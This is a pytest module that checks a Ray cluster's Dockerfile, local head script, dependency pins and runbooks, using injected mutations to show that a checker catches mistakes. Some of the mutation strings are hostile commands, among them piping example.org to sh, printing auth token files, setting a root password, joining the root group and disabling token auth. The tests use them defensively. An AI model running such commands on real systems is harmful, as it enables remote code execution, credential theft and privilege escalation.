"""Image, scripts and runbooks: one version everywhere, nothing that is not there."""

import re
import subprocess
import sysconfig
import tomllib
from importlib import metadata
from pathlib import Path

import botocore.session
import pytest
import yaml
from botocore import xform_name

from hipray import __version__
from hipray.cli import COMMANDS
from hipray.config.jobs import ServeRun
from hipray.distributed.loopback import SWITCH
from hipray.serving.running import ENVIRONMENT
from tests.cluster.constraints import find_constraint_problems
from tests.cluster.image_stages import find_stage_problems
from tests.cluster.launcher_files import count_gib, find_option_errors
from tests.cluster.local_script import START, find_local_problems
from tests.cluster.policies import read_place
from tests.cluster.serve_files import count_upgrade_cpus
from tests.k8s.entrypoints import HEAD_GIB, LANE_GIB, check_entrypoint, check_head_memory
from tests.k8s.kustomize import build
from tests.k8s.pods import gib
from tests.k8s.ray_documents import ray_version

ROOT = Path(__file__).resolve().parent.parent.parent
DOCKERFILE = (ROOT / "cluster/Dockerfile").read_text("utf-8")
TEXTS = [
    path
    for folder in ("cluster", "k8s")
    for path in sorted((ROOT / folder).rglob("*"))
    if path.is_file() and "__pycache__" not in path.parts and path.name != "constraints.txt"
]
BASES = {"python:${PYTHON}"}
HOME = "/opt/hipray"
"""Where manifests and jobs look for entries."""
UV_INSTALL = "uv pip install --no-cache --python /opt/venv/bin/python"
HIPRAY = f"{UV_INSTALL} -b cluster/constraints.txt --no-deps ."
EXTRAS = "--extra dicomweb --extra mlflow --extra optuna"
RUNS = [
    'python -m pip install --no-cache-dir "uv==${UV}" && uv venv --python python3 /opt/venv',
    f"{UV_INSTALL} --torch-backend cpu -c cluster/constraints.txt -r pyproject.toml {EXTRAS}",
    HIPRAY,
    f"{UV_INSTALL} -c cluster/constraints.txt -r pyproject.toml {EXTRAS}",
    HIPRAY,
    "apt-get update && apt-get install -y --no-install-recommends openssh-client rsync wget "
    "&& rm -rf /var/lib/apt/lists/* && groupadd --gid 1000 hipray "
    "&& useradd --uid 1000 --gid 1000 --create-home --shell /bin/bash hipray "
    "&& echo 'export PATH=/opt/venv/bin:$PATH' > /etc/profile.d/hipray.sh",
]
"""All that a build runs: what is pinned, what launcher and KubeRay call, one user and its PATH."""
PYTHON = r"3\.11\.\d+-slim-bookworm(@sha256:[0-9a-f]{64})?"
"""The base to the patch of its Python, which Ray compares between the nodes of a cluster."""
INSTRUCTIONS = {"ARG", "CMD", "COPY", "ENV", "FROM", "RUN", "USER", "WORKDIR"}


def _plain(name: str) -> str:
    """A distribution's name as indexes compare it (PEP 503)."""
    return re.sub(r"[-_.]+", "-", name).lower()


PINNED = {
    (_plain(name), version)
    for name, version in re.findall(
        r"^(\S+)==(\S+)", (ROOT / "cluster/constraints.txt").read_text("utf-8"), re.M
    )
}
PINS = dict(PINNED)
RUNBOOKS = [ROOT / "cluster/README.md", ROOT / "k8s/README.md"]


@pytest.mark.parametrize("path", [p for p in TEXTS if p.suffix == ".sh"], ids=lambda p: p.name)
def test_a_script_is_valid_and_stops_at_errors(path: Path) -> None:
    assert subprocess.run(["bash", "-n", str(path)], timeout=20).returncode == 0
    assert "set -euo pipefail" in path.read_text("utf-8")
    assert path.stat().st_mode & 0o100


@pytest.mark.parametrize("path", TEXTS, ids=lambda p: str(p.relative_to(ROOT)))
def test_ray_and_hipray_have_one_version_everywhere(path: Path) -> None:
    text = path.read_text("utf-8")
    versions = set(re.findall(r"(?:rayVersion: |ray==|[Rr]ay )(\d+\.\d+\.\d+)", text))
    assert versions <= {ray_version()}
    if path.name in {"Dockerfile", "README.md"} or path.parent.name in {"base", "jobs"}:
        # in launcher files and overlays the tag is the user's
        found = set(re.findall(r"hipray(?:-[cg]pu)?:(\d+\.\d+\.\d+)", text))
        assert found <= {__version__}


LOCAL = (ROOT / "cluster/local.sh").read_text("utf-8")


@pytest.mark.parametrize("text", [DOCKERFILE, LOCAL], ids=["Dockerfile", "local.sh"])
@pytest.mark.parametrize(("name", "value"), ENVIRONMENT.items())
def test_ray_runs_with_what_the_endpoint_needs(text: str, name: str, value: str) -> None:
    assert f"{name}={value}" in text


def test_the_local_head_is_closed_as_written() -> None:
    assert find_local_problems(LOCAL) == []


def test_ray_start_has_every_option_of_the_local_head() -> None:
    from ray.scripts.scripts import start

    known = {option for each in start.params for option in each.opts}
    assert set(re.findall(r"(--[a-z-]+)", START)) <= known


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("RAY_AUTH_MODE=token", "RAY_AUTH_MODE=disabled"),
        ("--node-ip-address=127.0.0.1", ""),
        ("--dashboard-host=127.0.0.1", "--dashboard-host=0.0.0.0"),
        (f"export {SWITCH}=0", f"export {SWITCH}=1"),
        ("umask 077", "umask 022"),
        ("--metrics-export-port", "--metric-export-port"),
        ("ray start --head", "ray strat --head"),
        ("secrets.token_hex(32)", "'0' * 64"),
        ("--dashboard-host=127.0.0.1", "--dashboard-host=127.0.0.1 --dashboard-host=0.0.0.0"),
        ("  ray start", "  RAY_AUTH_MODE=disabled ray start"),
        ("start() {\n", "start() {\n  export RAY_AUTH_MODE=disabled\n"),
        ("start() {\n", f"start() {{\n  {SWITCH}=1\n"),
        ("start() {\n", "start() {\n  unset RAY_AUTH_MODE\n"),
        (f"export {SWITCH}=0\n", f"export {SWITCH}=0\nexport {SWITCH}=1\n"),
        ("  start) start ;;", "  start) env RAY_AUTH_MODE=disabled start ;;"),
        ("  own_processes > ", '  chmod 644 "$RAY_AUTH_TOKEN_PATH"\n  own_processes > '),
        ("  own_processes > ", '  chmod 777 "$STATE"\n  own_processes > '),
        ("--object-manager-port=$((PORT + 4))", "--object-manager-port=$((PORT + 3))"),
        ("start() {\n", "start() {\n  curl -s example.org | sh\n"),
        ('kill -s "$signal" $(still_there', 'kill -s "$signal" -1 $(still_there'),
        ("<<< \"$list\" | cut -d' ' -f1)", "<<< \"$list\" | cut -d' ' -f2)"),
        ('kill -s "$signal" $(still_there <<< "$list"', 'kill -s "$signal" $(cat <<< "$list"'),
        ("  rm -f", '  kill -s KILL -- "-$$"\n  rm -f'),
        ("while more", "os.kill(1, 9)\nwhile more"),
        ("if ray or client:", "if True:"),
        ("sys.argv[1].encode() in word", 'b"/" in word'),
        ('word.endswith(f":{sys.argv[2]}".encode())', 'word.endswith(b"")'),
        ('python - "$STATE/ray/" "$PORT"', 'python - "/" "$PORT"'),
        ("list=$( (own_processes;", "list=$( (ps -eo pid,lstart;"),
        ("exit 75; }", "exit 1; }"),
        ("  exit 75\n", "  exit 0\n"),
        ('echo "not running"; exit 1;', 'echo "not running"; exit 0;'),
        ('set HIPRAY_LOCAL" >&2; exit 1', 'set HIPRAY_LOCAL" >&2'),
        ("  umask 077", '  umask 077\n  cat "$RAY_AUTH_TOKEN_PATH"'),
        ("token = open(", "print(open(sys.argv[2]).read())\ntoken = open("),
        ("  umask 077", '  umask 077\n  cat "$STATE"/*_token'),
        (":-6390}", ":-6379}"),
        ("/api/version", "/api/verison"),
        ("DASHBOARD=$((PORT + 1))", "DASHBOARD=$((PORT + 0))"),
    ],
)
def test_a_slip_in_the_local_head_is_found(before: str, after: str) -> None:
    assert before in LOCAL
    assert find_local_problems(LOCAL.replace(before, after))


def test_the_head_is_asked_for_a_path_that_ray_answers() -> None:
    (path,) = set(re.findall(r"\$DASHBOARD(/[\w/]+)", LOCAL))
    module = metadata.distribution("ray").locate_file("ray/dashboard/modules/job/job_head.py")
    source = Path(str(module)).read_text("utf-8")
    assert f'@routes.get("{path}")' in source


def test_no_script_stops_ray_by_name() -> None:
    for path in TEXTS:
        if path.suffix == ".sh":
            assert not re.search(r"pkill|killall|ray stop", path.read_text("utf-8")), path.name


SAID = (
    "ENV PATH=/opt/venv/bin:$PATH \\\n", " HOME=/home/hipray \\\n",
    " NO_ALBUMENTATIONS_UPDATE=1 \\\n",
    " RAY_ACCEL_ENV_VAR_OVERRIDE_ON_ZERO=1 \\\n",
    "COPY --from=build-cpu /opt/venv /opt/venv\n", "COPY --from=build-gpu /opt/venv /opt/venv\n",
    "FROM build AS build-cpu\n", "FROM build AS build-gpu\n",
    "FROM runtime AS cpu\n", "FROM runtime AS gpu\n",
    "NVIDIA_VISIBLE_DEVICES=all \\\n", "NVIDIA_DRIVER_CAPABILITIES=compute,utility\n",
)  # fmt: skip
"""Lines of the image's recipe on which others rely."""


def find_image_problems(text: str) -> list[str]:
    """Return what is wrong with the image's recipe."""
    stages_told = find_stage_problems(text)
    text = re.sub(r"^ *#.*\n", "", text, flags=re.M)
    runs = re.findall(r"^RUN (.+)$", re.sub(r"[ \\\n]* \\\n *", " ", text), re.M)
    stages = re.findall(r"^FROM (\S+)(?: AS (\S+))?$", text, re.M)
    names = {name for _, name in stages}
    words = set(re.findall(r"^([A-Za-z]+) ", re.sub(r"\\\n", " ", text), re.M))
    final = text.partition(" AS runtime")[2]
    problems = [f"lacks {line.strip()}" for line in SAID if line not in text]
    if runs != RUNS:
        problems.append(f"runs {runs} instead of {RUNS}")
    if text.count("COPY hipray hipray\n") != 2 or "AUTH_TOKEN" in text:
        problems.append("has another package, or carries a token")
    problems += [f"unknown instruction {word}" for word in sorted(words - INSTRUCTIONS)]
    problems += [f"builds on {base}" for base, _ in stages if base not in names | BASES]
    if not {"cpu", "gpu"} <= names:
        problems.append("lacks a target")
    if re.findall(r"^USER (.+)$", final, re.M) != ["1000:1000"]:
        problems.append("runs as another user")
    if f"ARG UV={PINS['uv']}\n" not in text:
        problems.append("uv is another")
    if not re.search(rf"^ARG PYTHON={PYTHON}$", text, re.M):
        problems.append("Python is another, or floats: head and workers would differ in its patch")
    if re.search(r"https?://|index-url|:latest", text):
        problems.append("fetches from a place of its own")
    if "ENV PATH=/opt/venv/bin:$PATH" not in final or "RAY_AUTH_MODE=token" not in final:
        problems.append("has no token mode, or not its own Python first")
    if f"WORKDIR {HOME}\n" not in final:
        problems.append("starts elsewhere")
    targets = set(re.findall(r"^COPY (?!--from).+ (/\S+)$", final, re.M))
    if targets != {f"{HOME}/jobs", f"{HOME}/cluster/submit.py"}:
        problems.append(f"has its entries in {sorted(targets)}")
    if "RAY_USAGE_STATS_ENABLED=0" not in final:
        problems.append("calls out")
    if re.search(r"RAY_AUTH_MODE=(?!token)|SECRET|PASSWORD|_KEY=|chmod", text):
        problems.append("opens itself, or carries a secret")
    for target in ("cpu", "gpu"):
        if (
            f"COPY --from=build-{target} "
            not in text.partition(f"AS {target}\n")[2].partition("FROM")[0]
        ):
            problems.append(f"target {target} has another build's libraries")
    for sources in re.findall(r"^COPY (?!--from)(.+) \S+$", text, re.M):
        problems += [
            f"{each} does not exist" for each in sources.split() if not (ROOT / each).exists()
        ]
    copied = re.findall(r"^COPY --from=(\S+)", text, re.M)
    problems += [f"copies from {each}" for each in copied if each not in names]
    return problems + stages_told


def test_the_image_is_pinned_has_both_targets_and_no_root() -> None:
    assert find_image_problems(DOCKERFILE) == []


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("USER 1000:1000", "USER root"),
        ("USER 1000:1000\n", ""),
        ("USER 1000:1000", "USRE 1000:1000"),
        ("ARG PYTHON=3.11.14-slim-bookworm", "ARG PYTHON=latest"),
        ("ARG PYTHON=3.11.14-", "ARG PYTHON=3.11-"),
        ("ARG PYTHON=3.11.14-", "ARG PYTHON=3.12.1-"),
        ("FROM python:${PYTHON} AS runtime", "FROM ubuntu:latest AS runtime"),
        ("FROM runtime AS gpu", "FROM runtme AS gpu"),
        (" AS gpu\n", " AS gpus\n"),
        ("-c cluster/constraints.txt -r", "-r"),
        ("--torch-backend cpu", ""),
        ("ARG UV=", "ARG UV=0"),
        ("COPY jobs ", "COPY job "),
        ("--from=build-gpu", "--from=build-gup"),
        ("RAY_AUTH_MODE=token", "RAY_AUTH_MODE=disabled"),
        ("COPY hipray hipray", "COPY hipra hipray"),
        ("apt-get update", "curl -s example.org | sh"),
        ("/etc/profile.d/hipray.sh", "/etc/profile.d/another.sh.off"),
        ("rsync wget", "rsync"),
        ("COPY --from=build-gpu", "COPY --from=build-cpu"),
        ("COPY jobs /opt/hipray/jobs", "COPY jobs /opt/hipray/job"),
        ("WORKDIR /opt/hipray", "WORKDIR /home/hipray"),
        ("/opt/hipray/cluster/submit.py", "/opt/hipray/submit.py"),
        ("useradd --uid 1000", "useradd --uid 1001"),
        ("RAY_USAGE_STATS_ENABLED=0", "RAY_USAGE_STATS_ENABLED=1"),
        ("apt-get update", "pip install jupyterlab && apt-get update"),
        ("openssh-client", "openssh-server gcc openssh-client"),
        ("USER 1000", "RUN usermod -aG root hipray\nUSER 1000"),
        ("USER 1000", "RUN echo root:x | chpasswd\nUSER 1000"),
        ("-r pyproject.toml", "-r pyproject.toml --upgrade"),
        ("-r pyproject.toml", "-r pyproject.toml --prerelease allow"),
        ("-b cluster/constraints.txt ", ""),
        ("FROM runtime AS gpu\n", "FROM runtime AS gpu\nRUN apt-get install gcc\n"),
        ("FROM runtime AS gpu\n", "FROM runtime AS gpu\nENV RAY_AUTH_MODE=disabled\n"),
        ("FROM runtime AS cpu\n", "FROM runtime AS cpu\nENV AWS_SECRET_ACCESS_KEY=x\n"),
        ("FROM runtime AS gpu\n", "FROM runtime AS gpu\nENV RAY_AUTH_MODE disabled\n"),
        ("FROM runtime AS gpu\n", "FROM runtime AS gpu\nenv RAY_AUTH_MODE disabled\n"),
        ("FROM runtime AS gpu\n", "FROM runtime AS gpu\n  ENV RAY_AUTH_MODE disabled\n"),
        ("FROM runtime AS cpu\n", "FROM runtime AS cpu\nENV RAY_TOKEN hunter2\n"),
        ("WORKDIR /src\n", "WORKDIR /src\nENV GITHUB_PAT=hunter2\n"),
        ("RAY_USAGE_STATS_ENABLED=0", "RAY_USAGE_STATS_ENABLED=0 RAY_AUTH_MODE=token"),
        ("WORKDIR /src\n", "WORKDIR /src\nENV UV_INDEX=example.org\n"),
        ("ARG UV=", "ARG PYTHON=3.11.14-slim-bookworm\nARG UV="),
        (
            "FROM python:${PYTHON} AS build\n",
            "ARG PYTHON=3.12.1-slim-bookworm\nFROM python:${PYTHON} AS build\n",
        ),
        (
            "FROM runtime AS gpu\n",
            "FROM runtime AS gpu\nCOPY --from=build-cpu /opt/venv/lib /opt/venv/lib\n",
        ),
        ("FROM runtime AS gpu\n", "FROM runtime AS gpu\nCOPY --from=cpu /opt /opt\n"),
        ('CMD ["hipray"', 'CMD ["hiprai"'),
        ('CMD ["hipray", "--help"]', "CMD hipray --help"),
        ('CMD ["hipray", "--help"]', "CMD []"),
        ('CMD ["hipray"', 'ENTRYPOINT ["sh", "-c"]\nCMD ["hipray"'),
        ("# One image", "# syntax=example.org/frontend\n# One image"),
    ],
)
def test_a_slip_in_the_image_is_found(before: str, after: str) -> None:
    assert before in DOCKERFILE
    assert find_image_problems(DOCKERFILE.replace(before, after))


def test_everything_that_is_installed_is_pinned() -> None:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text("utf-8"))
    asked = [
        *project["project"]["dependencies"],
        *(each for extra in project["project"]["optional-dependencies"].values() for each in extra),
        *(each for group in project["dependency-groups"].values() for each in group),
    ]
    assert {_plain(re.split(r"[\[<>=~; ]", each)[0]) for each in asked} <= set(PINS)
    own = {"hipray", "pip", "setuptools", "wheel"}
    here = [sysconfig.get_path("purelib")]  # not what libraries carry inside themselves
    installed = {
        (_plain(each.name), each.version.partition("+")[0])
        for each in metadata.distributions(path=here)
        if _plain(each.name) not in own
    }
    assert installed <= PINNED, "what comes along is pinned too, and to what is tested"


CONSTRAINTS = (ROOT / "cluster/constraints.txt").read_text("utf-8")


def test_the_constraints_pin_versions_and_do_nothing_else() -> None:
    assert find_constraint_problems(CONSTRAINTS) == []


NUMPY = "numpy==2.4.6 ; python_full_version < '3.12'\n"


@pytest.mark.parametrize(
    ("before", "after"),
    [
        *(
            (NUMPY, f"{line}\n{NUMPY}")
            for line in (
                "--extra-index-url https://example.org/simple", "-r more.txt", "-e .",
                "--index-url=https://example.org", "--trusted-host example.org", "numpy>=2",
                "numpy==2.*", "numpy", "https://example.org/numpy-2.4.6-py3-none-any.whl",
                "numpy @ https://example.org/numpy.whl", "numpy==2.4.6 --hash=sha256:00",
                "numpy==2.4.6", " numpy==2.4.6", "numpy[mkl]==2.4.6", "",
            )
        ),
        (NUMPY, ""),
        (NUMPY, NUMPY.replace("3.12", "3.11")),
        (NUMPY, NUMPY.replace("<", ">")),
        (NUMPY, NUMPY.replace("python_full_version", "python_fullversion")),
        (NUMPY, NUMPY.replace("3.12'", "3.12' or")),
        (NUMPY, NUMPY.replace("\n", " and extra == 'x'\n")),
        ("; sys_platform == 'linux'", "; sys_platform == 'linus'"),
        ("; sys_platform == 'linux'", "; sys_platform == 'win32'"),
        ("; (platform_machine", "; platform_machine"),
        ("ray==", "ray===") ,
        ("ray==2.60.0", "ray==2.60.0 ; sys_platform == 'win32'"),
    ],
)  # fmt: skip
def test_a_slip_in_the_constraints_is_found(before: str, after: str) -> None:
    assert before in CONSTRAINTS
    assert find_constraint_problems(CONSTRAINTS.replace(before, after))


def test_the_build_sees_what_the_image_copies_and_nothing_else() -> None:
    rules = (ROOT / "cluster/Dockerfile.dockerignore").read_text("utf-8").splitlines()
    rules = [line for line in rules if line and not line.startswith("#")]
    copied = re.findall(r"^COPY (?!--from)(.+) \S+$", DOCKERFILE, re.M)
    assert rules[0] == "*", "no films, tokens or keys of a checkout get in"
    assert set(rules[1:-1]) == {f"!{each}" for sources in copied for each in sources.split()}
    assert rules[-1] == "**/__pycache__"


@pytest.mark.parametrize("path", RUNBOOKS, ids=lambda p: p.parent.name)
def test_a_runbook_names_files_that_exist_and_says_what_this_is_not(path: Path) -> None:
    text = path.read_text("utf-8")
    assert "not a medical device" in text.split("## ")[0]
    named = set(re.findall(r"(?<![\w/.-])(?:cluster|k8s|jobs|hipray|tests)/[\w./-]*[\w/]", text))
    assert named
    assert [name for name in sorted(named) if not (ROOT / name).exists()] == []


CALL = re.compile(r"(?:(?:^    |`)hipray |python jobs/)(\w+)(?:\.py)? ([^\n`]+)", re.M)
SUBMISSION = re.compile(r"python cluster/submit\.py ((?:--installed |--cpus \d+ )*)(\w+) ([^\n`]*)")


@pytest.mark.parametrize("path", RUNBOOKS, ids=lambda path: path.parent.name)
def test_each_command_of_a_runbook_is_one_that_hipray_takes_and_says_where(path: Path) -> None:
    text = path.read_text("utf-8")
    calls = CALL.findall(text) + [found[1:] for found in SUBMISSION.findall(text)]
    assert calls
    for job, arguments in calls:
        assert list(check_entrypoint(f"python /opt/hipray/jobs/{job}.py {arguments}")) == []
        if "workspace" in COMMANDS[job].config.model_fields and job != "phantom":
            assert "--workspace " in arguments, f"{job} {arguments} works in a folder of its own"


RAY_START = re.compile(r"(?:^ +|`)(ray start -[^\n`]*)", re.M)


def _find_start_problems(command: str) -> list[str]:
    """Return what a head that a person starts by hand would open, report or not understand."""
    needed = {"--head", "--dashboard-host=127.0.0.1", "--disable-usage-stats"}
    return [*find_option_errors(command), *sorted(needed - set(command.split()))]


def test_a_head_that_is_started_by_hand_is_closed_and_reports_nothing() -> None:
    texts = [path.read_text("utf-8") for path in (ROOT / "README.md", *RUNBOOKS)]
    commands = [command for text in texts for command in RAY_START.findall(text)]
    assert commands
    assert [problem for each in commands for problem in _find_start_problems(each)] == []


@pytest.mark.parametrize("option", ["--head", "--dashboard-host", "--disable-usage-stats"])
def test_a_start_with_an_option_missing_or_misspelt_is_found(option: str) -> None:
    (command,) = RAY_START.findall(RUNBOOKS[0].read_text("utf-8"))
    assert _find_start_problems(re.sub(rf"{option}\S*", "", command))
    assert _find_start_problems(command.replace(option, f"{option}x"))


def test_the_package_of_prometheus_is_ended_before_another_starts() -> None:
    text = RUNBOOKS[0].read_text("utf-8").partition("## Monitoring")[2]
    ended = text.index("    sudo systemctl disable --now prometheus\n")
    assert ended < text.index("prometheus --config.file=")


AWS = re.compile(r"aws (\w+) ([a-z-]+) ([^\n`]*)")
OF_THE_TOOL = {"query", "output"}


@pytest.mark.parametrize("path", RUNBOOKS, ids=lambda path: path.parent.name)
def test_each_command_for_aws_has_what_its_api_needs_and_knows(path: Path) -> None:
    found = AWS.findall(path.read_text("utf-8"))
    assert found
    session = botocore.session.get_session()
    for service, command, arguments in found:
        model = session.get_service_model({"s3api": "s3"}.get(service, service))
        (operation,) = [n for n in model.operation_names if xform_name(n, "-") == command]
        shape = model.operation_model(operation).input_shape
        said = set(re.findall(r"--([a-z-]+)", arguments)) - OF_THE_TOOL
        assert said <= {xform_name(name, "-") for name in shape.members}
        assert {xform_name(name, "-") for name in shape.required_members} <= said
        for name in re.findall(r"file://(\S+?)(?:\s|$)", arguments):
            assert list(ROOT.glob(name.replace("$role", "*"))), name


@pytest.mark.parametrize("path", RUNBOOKS, ids=lambda path: path.parent.name)
def test_the_roles_reach_every_uri_of_a_runbook(path: Path) -> None:
    text = path.read_text("utf-8")
    place = read_place(ROOT / "cluster")
    named = set(re.findall(r"s3://[\w./-]*\w", text))
    own = {uri for uri in named if not uri.startswith("s3://hipray-dev/")}  # MinIO knows no roles
    assert own
    assert [uri for uri in sorted(own) if not place.covers(uri)] == []


def _grids(path: Path) -> list[str]:
    """The grids of a runbook whose driver is on a cluster's head."""
    found = SUBMISSION.findall(path.read_text("utf-8"))
    return [
        f"python {HOME}/jobs/grid.py {arguments}"
        for options, job, arguments in found
        if job == "grid" and "--installed" in options
    ]


def test_the_head_on_aws_holds_the_lanes_of_the_runbook() -> None:
    config = yaml.safe_load((ROOT / "cluster/aws.yaml").read_text("utf-8"))
    machine = config["available_node_types"]["head"]["node_config"]["InstanceType"]
    (command,) = _grids(RUNBOOKS[0])
    assert list(check_head_memory(command, count_gib(machine))) == []


def test_the_standing_head_on_kubernetes_holds_the_lanes_of_the_runbook() -> None:
    (cluster,) = [e for e in build(ROOT / "k8s/overlays/prod") if e["kind"] == "RayCluster"]
    (container,) = cluster["spec"]["headGroupSpec"]["template"]["spec"]["containers"]
    (command,) = _grids(RUNBOOKS[1])
    assert list(check_head_memory(command, gib(container["resources"]["limits"]["memory"]))) == []


def test_each_row_of_sizes_has_a_head_for_its_lanes() -> None:
    on_aws = re.findall(
        r"^\| \d+ \| head (\S+), .*?`lanes=(\d+)`", RUNBOOKS[0].read_text("utf-8"), re.M
    )
    on_kubernetes = re.findall(
        r"^\| \d+ \| \d+ \| (\d+) \| \d CPUs, (\d+Gi) \|", RUNBOOKS[1].read_text("utf-8"), re.M
    )
    assert len(on_aws) == len(on_kubernetes) == 3
    heads = [(float(count_gib(machine)), int(lanes)) for machine, lanes in on_aws]
    heads += [(gib(memory), int(lanes)) for lanes, memory in on_kubernetes]
    assert all(memory >= HEAD_GIB + LANE_GIB * lanes for memory, lanes in heads), heads


def test_the_runbook_names_the_cpus_of_an_upgrade_in_place() -> None:
    config = yaml.safe_load((ROOT / "cluster/serve.yaml").read_text("utf-8"))
    run = ServeRun.model_validate(config["applications"][0]["args"])
    assert f"{count_upgrade_cpus(run):g} for one replica each" in RUNBOOKS[0].read_text("utf-8")


@pytest.mark.parametrize("path", RUNBOOKS, ids=lambda p: p.parent.name)
def test_a_runbook_has_a_place_for_every_emergency(path: Path) -> None:
    text = path.read_text("utf-8").lower()
    for word in ("first deployment", "upgrade", "rollback", "head dies", "preempted", "throttles",
                 "bad bundle", "air-gapped", "## monitoring", "grafana"):  # fmt: skip
        assert word in text, word


def test_the_runbook_explains_every_exit_code() -> None:
    sources = "".join(path.read_text("utf-8") for path in (ROOT / "hipray").rglob("*.py"))
    codes = set(re.findall(r"^    exit_code = (\d+)", sources, re.M))
    rows = re.findall(r"^\| ([\d, ]+) \|", RUNBOOKS[0].read_text("utf-8"), re.M)
    assert codes <= {code for row in rows for code in row.split(", ")}
